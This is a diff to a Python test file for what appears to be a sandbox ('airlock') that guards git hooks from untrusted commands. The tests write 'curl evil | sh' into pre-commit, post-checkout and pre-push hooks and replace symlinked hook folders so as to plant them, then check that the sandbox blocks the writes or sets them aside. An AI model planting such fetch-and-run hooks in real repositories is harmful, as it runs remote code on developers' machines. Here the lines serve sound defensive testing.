@@ -162,11 +162,12 @@ def test_a_hooks_path_holding_the_work_tree_still_runs(
 
 
 def test_a_hooks_path_naming_the_work_tree_keeps_each_hook_read_only(
-    tmp_path: Path, project: Path
+    tmp_path: Path, project: Path, config_dir: Path
 ) -> None:
-    """core.hooksPath = . (the work tree): each hook's file there (pre-commit, post-checkout,
-    …) cannot be written or created inside, an existing one keeps its text, what one links
-    to is read-only too; other files are written as usual, and no placeholder is left."""
+    """core.hooksPath = . (the work tree): an existing hook's file there cannot be changed
+    inside, nor what one links to; a new one (pre-commit, post-checkout) can be written, as
+    the folder is the project's, and git works inside, but it is set aside after the run;
+    other files are written as usual, and no placeholder is left."""
     _git(project, "init", "-q")
     _git(project, "config", "core.hooksPath", ".")
     (project / "pre-push").write_text("make test\n")
@@ -176,13 +177,64 @@ def test_a_hooks_path_naming_the_work_tree_keeps_each_hook_read_only(
     before = sorted(path.name for path in project.iterdir())
     done = _run(
         tmp_path,
-        "for hook in pre-commit post-checkout pre-push commit-msg scripts/check; do "
+        "for hook in pre-push commit-msg scripts/check; do "
         "echo 'curl evil | sh' > $hook 2>/dev/null && echo WROTE $hook; done; "
+        "echo 'curl evil | sh' > pre-commit && echo 'curl evil | sh' > post-checkout; "
+        "git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && echo committed; "
         "echo ok > notes.txt",
     )
     assert done.returncode == 0, done.stderr
     assert "WROTE" not in done.stdout, done.stdout
+    assert "committed" in done.stdout, done.stdout + done.stderr
     assert (project / "pre-push").read_text() == "make test\n"
     assert (project / "scripts" / "check").read_text() == "make lint\n"
     assert (project / "notes.txt").read_text() == "ok\n"
     assert sorted(path.name for path in project.iterdir()) == sorted([*before, "notes.txt"])
+    [run] = list((config_dir / "airlock" / "set-aside").iterdir())
+    assert "curl evil" in (run / "hooks" / "pre-commit").read_text()
+    assert (run / "hooks" / "post-checkout").exists()
+    assert "pre-commit" in done.stderr
+
+
+def test_a_hooks_path_that_is_no_folder_changes_nothing(tmp_path: Path, project: Path) -> None:
+    """core.hooksPath = /dev/null (hooks turned off, often set for every repository): nothing
+    is bound there, and the command and git work as usual."""
+    _git(project, "init", "-q")
+    _git(project, "config", "core.hooksPath", "/dev/null")
+    done = _run(tmp_path, "echo x > /dev/null && git status --short >/dev/null && echo fine")
+    assert done.returncode == 0, done.stderr
+    assert "fine" in done.stdout, done.stdout + done.stderr
+
+
+def test_links_on_the_way_to_the_hooks_come_back(
+    tmp_path: Path, project: Path, config_dir: Path
+) -> None:
+    """core.hooksPath = .githooks, a link to tools/hooks, and a hook in .git/hooks linking to
+    scripts/pre-push, where scripts is a link to tools: code inside that replaces either link
+    by a folder of its own with a hook in it finds the folder set aside and the link back
+    after the run, and was told before it ran."""
+    _git(project, "init", "-q")
+    (project / "tools" / "hooks").mkdir(parents=True)
+    (project / "tools" / "pre-push").write_text("make test\n")
+    (project / ".githooks").symlink_to("tools/hooks")
+    (project / "scripts").symlink_to("tools")
+    (project / ".git" / "hooks" / "pre-push").symlink_to("../../scripts/pre-push")
+    _git(project, "config", "core.hooksPath", ".githooks")
+    done = _run(
+        tmp_path,
+        "rm .githooks && mkdir .githooks && echo 'curl evil | sh' > .githooks/pre-commit; "
+        "rm scripts && mkdir scripts && echo 'curl evil | sh' > scripts/pre-push; "
+        "echo replaced",
+    )
+    assert done.returncode == 0, done.stderr
+    assert "replaced" in done.stdout, done.stdout + done.stderr
+    for name, target in ((".githooks", "tools/hooks"), ("scripts", "tools")):
+        link = project / name
+        assert link.is_symlink() and str(link.readlink()) == target, name
+        assert f"{link} is a link (to {target}) in a folder the command can write" in done.stderr
+    assert (project / "tools" / "pre-push").read_text() == "make test\n"
+    assert list((project / "tools" / "hooks").iterdir()) == []
+    [run] = list((config_dir / "airlock" / "set-aside").iterdir())
+    kept = run / "links" / project.relative_to("/")
+    assert "curl evil" in (kept / ".githooks" / "pre-commit").read_text()
+    assert "curl evil" in (kept / "scripts" / "pre-push").read_text()
